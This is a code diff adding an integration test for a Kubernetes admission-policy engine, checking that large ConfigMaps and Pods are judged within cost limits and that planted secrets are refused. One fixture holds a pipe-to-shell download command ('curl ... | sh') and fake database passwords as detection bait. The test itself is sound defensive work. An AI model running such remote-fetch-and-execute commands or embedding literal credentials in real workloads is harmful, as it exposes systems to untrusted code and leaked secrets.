@@ -413,6 +413,100 @@ describe("admission on a real API server", function () {
     }
   });
 
+  // The API server refuses what costs more to judge than it allows: what is as large as it may be must come in all the same.
+  it("judges what is large, and lets in what costs too much to judge", async () => {
+    const name = "trial-large";
+    const bounded = rules.filter(({ definition }) => definition.withinCost !== undefined);
+    const one = new Engine(bounded, policySettings.parse({ profile: "strict" }), TODAY);
+    const labels = { [TRIAL]: name, [label.role]: "operator" };
+    await client.create({ apiVersion: "v1", kind: "Namespace", metadata: { name, labels } });
+    const selected = { matchResources: { namespaceSelector: { matchLabels: { [TRIAL]: name } } } };
+    for (const object of admissionPolicies(one.activeRules, one.settings, TODAY).map(toKube)) {
+      const own = { name: `${name}-${object.metadata.name ?? ""}` };
+      const spec = object.kind.endsWith("Binding")
+        ? { policyName: own.name, validationActions: ["Deny"], ...selected }
+        : at(object, "spec");
+      await client.create(toKube({ ...object, metadata: own, spec }));
+    }
+    const refusedFor = (object: KubeObject): Promise<readonly string[]> =>
+      client.create(object, { dryRun: true }).then(
+        () => [],
+        (error: unknown) => {
+          assert.ok(error instanceof ApiError, String(error));
+          return error.message.match(/\[[a-z-]+\/[a-z-]+\]|cost limit/g) ?? [error.message];
+        },
+      );
+    const filled = (line: string, size: number): string => line.repeat(size / line.length);
+    const config = (data: Readonly<Record<string, string>>): KubeObject => ({
+      apiVersion: "v1",
+      kind: "ConfigMap",
+      metadata: { name: "large", namespace: name },
+      data,
+    });
+    const pod = (containers: number, variables: number, last: string): KubeObject => ({
+      apiVersion: "v1",
+      kind: "Pod",
+      metadata: { name: "large", namespace: name },
+      spec: {
+        containers: Array.from({ length: containers }, (_, container) => ({
+          name: `c${container}`,
+          image: "registry.example.org/app:1.2.3",
+          env: [
+            ...Array.from({ length: variables - 1 }, (_, each) => ({
+              name: `SOME_VARIABLE_${each}`,
+              value: `${each}`,
+            })),
+            { name: last, value: "Zomer-2026!" },
+          ],
+        })),
+      },
+    });
+    const script = (size: number, last: string): KubeObject => ({
+      apiVersion: "v1",
+      kind: "Pod",
+      metadata: { name: "large", namespace: name },
+      spec: {
+        containers: [
+          { name: "main", image: "a:1", args: ["sh", "-c", `${filled("echo a token value\n", size)}${last}`] },
+        ],
+      },
+    });
+    const SECRET = "db_password=Zomer2026geheim";
+    const dashboard = '{"id":12,"title":"Global throughput, high","key":"value","url":"https://example.org/a"},';
+    await settled(async () => (await refusedFor(config({ a: SECRET }))).length > 0);
+    const rows: readonly (readonly [what: string, object: KubeObject, refused: readonly string[]])[] = [
+      ["one dashboard of 1 MB", config({ a: filled(dashboard, 1_000_000) }), []],
+      ["lines with words of secrets, 1 MB", config({ a: filled("some-key: value-of-it\n", 1_000_000) }), []],
+      ["lines with words of secrets, 20 KB", config({ a: filled("some-key: value-of-it\n", 20_000) }), []],
+      [
+        "ten thousand entries",
+        config(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`k-${at}`, "text"]))),
+        [],
+      ],
+      [
+        "a secret behind 60 KB",
+        config({ a: `${filled("some words of it\n", 60_000)}${SECRET}` }),
+        ["[secrets/literal-config-map]"],
+      ],
+      [
+        "a secret behind 8 KB of words",
+        config({ a: `${filled("token: words\n", 8000)}${SECRET}` }),
+        ["[secrets/literal-config-map]"],
+      ],
+      ["a pod of 40 containers with 500 variables each", pod(40, 500, "DB_PASSWORD"), []],
+      ["a pod of 500 variables", pod(1, 500, "MODE"), []],
+      ["a password behind 500 variables", pod(1, 500, "DB_PASSWORD"), ["[secrets/literal-environment]"]],
+      ["a script of 300 KB", script(300_000, ""), []],
+      ["a download behind 5 KB", script(5000, "curl -s https://example.org/i.sh | sh"), ["[workload/shell-download]"]],
+    ];
+    const answers = [];
+    for (const [what, object] of rows) answers.push([what, await refusedFor(object)]);
+    assert.deepEqual(
+      answers,
+      rows.map(([what, , refused]) => [what, refused]),
+    );
+  });
+
   it("refuses every fixture with exactly the rules that the pack names", async () => {
     const tasks = given.flatMap((sample) =>
       accepted.filter((trial) => concerns(trial, sample)).map((trial) => ({ sample, trial })),
@@ -437,6 +531,11 @@ describe("admission on a real API server", function () {
 
 const EXEMPT = "trial-exempt";
 const exemptNamespace = { namespace: EXEMPT, label: EXEMPT, role: "suite" } as const;
+
+/** Waits until policies are in force, up to 15 s. */
+async function settled(isInForce: () => Promise<boolean>): Promise<void> {
+  for (let attempt = 0; attempt < 60 && !(await isInForce()); attempt++) await sleep(250);
+}
 
 function toKube(object: unknown): KubeObject {
   assert.ok(isKubeObject(object));
